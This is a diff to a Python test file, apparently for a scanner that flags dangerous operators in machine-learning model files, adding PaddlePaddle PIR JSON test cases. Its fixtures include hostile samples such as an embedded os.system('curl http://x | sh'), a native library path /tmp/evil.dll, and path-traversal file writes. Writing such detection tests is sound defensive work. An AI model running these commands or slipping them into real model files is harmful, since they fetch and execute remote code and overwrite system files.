@@ -58,6 +58,12 @@ def paddle(operator: str, **texts: str) -> bytes:
     return part(1, b"\x08\x00\x10\x00", part(4, part(3, operator), *attributes))
 
 
+def pir(operator: str, **texts: str) -> bytes:
+    attributes = [{"N": key, "AT": {"#": "0.a_str", "D": value}} for key, value in texts.items()]
+    program = {"regions": [{"blocks": [{"ops": [{"#": f"1.{operator}", "A": attributes, "I": [], "O": []}]}]}]}
+    return json.dumps({"base_code": {"magic": "pir", "version": 4}, "program": program}).encode()
+
+
 def symbol(op: str, **attributes: str) -> bytes:
     node = {"op": op, "name": "n", "attrs": attributes, "inputs": []}
     return json.dumps({"nodes": [node], "arg_nodes": [], "heads": [[0, 0, 0]]}).encode()
@@ -116,6 +122,10 @@ BAD = {
     ),
     "a program that writes": ("paddle", paddle("save_combine", file_path="/etc/x"), "paddle-file-operator", HIGH),
     "a program that reads": ("paddle", paddle("load", file_path="../x"), "paddle-file-operator", HIGH),
+    "py_func of version 3": ("paddle-json", pir("py_func"), "paddle-python-operator", HIGH),
+    "a program of version 3 that writes": (
+        "paddle-json", pir("save_combine", file_path="../x"), "paddle-file-operator", HIGH,
+    ),
     "an operator of nobody": ("paddle", paddle("my_exec"), "paddle-unknown-operator", LOW),
     "a Python operator": ("mxnet", symbol("Custom", op_type="evil"), "mxnet-custom-operator", MEDIUM),
     "a callback": ("mxnet", symbol("_Native", info="0x7f00"), "mxnet-custom-operator", HIGH),
@@ -141,7 +151,8 @@ BAD = {
         "rknn", b"RKNN" + bytes(40) + b"os.system('curl http://x | sh')\0", "opaque-embedded-code", HIGH,
     ),
     "a library in a CNTK model": (
-        "cntk", "BCN\0BVersion\0native_user_function=/tmp/evil.dll\0".encode("utf-16-le"), "opaque-native-library", HIGH,
+        "cntk", "BCN\0BVersion\0native_user_function=/tmp/evil.dll\0".encode("utf-16-le"),
+        "opaque-native-library", HIGH,
     ),
 }  # fmt: skip
 
@@ -158,7 +169,10 @@ GOOD = {
     "a network": ("coreml", core(500, part(1, part(1, "l"), part(140, b"")))),
     "weights in the package": ("coreml", program("@model_path/weights/weight.bin")),
     "a manifest": ("mlpackage", package("com.apple.CoreML/model.mlmodel")),
-    "a program": ("paddle", paddle("conv2d", op_callstack='File "/home/me/train.py", line 1, in f\n    os.system("x")')),
+    "a program": (
+        "paddle", paddle("conv2d", op_callstack='File "/home/me/train.py", line 1, in f\n    os.system("x")'),
+    ),
+    "a program of version 3": ("paddle-json", pir("matmul", name="x")),
     "a graph": ("mxnet", symbol("Convolution", kernel="(3, 3)", num_filter="8")),
     "a Caffe network": ("caffe", b'layer { name: "c" type: "Convolution" convolution_param { num_output: 8 } }'),
     "an NCNN network": ("ncnn", b"7767517\n1 1\nInput data 0 1 data\n"),
